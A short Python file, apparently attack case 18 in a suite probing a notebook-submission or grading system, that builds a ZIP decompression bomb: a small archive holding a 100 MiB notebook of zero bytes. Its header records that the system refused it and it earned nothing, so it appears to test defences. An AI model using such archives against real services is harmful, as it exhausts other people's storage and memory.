# attack: 18
# on: s3
# does: hands in an archive of a hundred kilobytes that unpacks to a hundred megabytes
# run: refused
# earns: 0
# says: UTF-8
import zipfile


def make(path, notebook):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("terminate.ipynb", "w") as file:
            for _ in range(100):
                file.write(bytes(2**20))
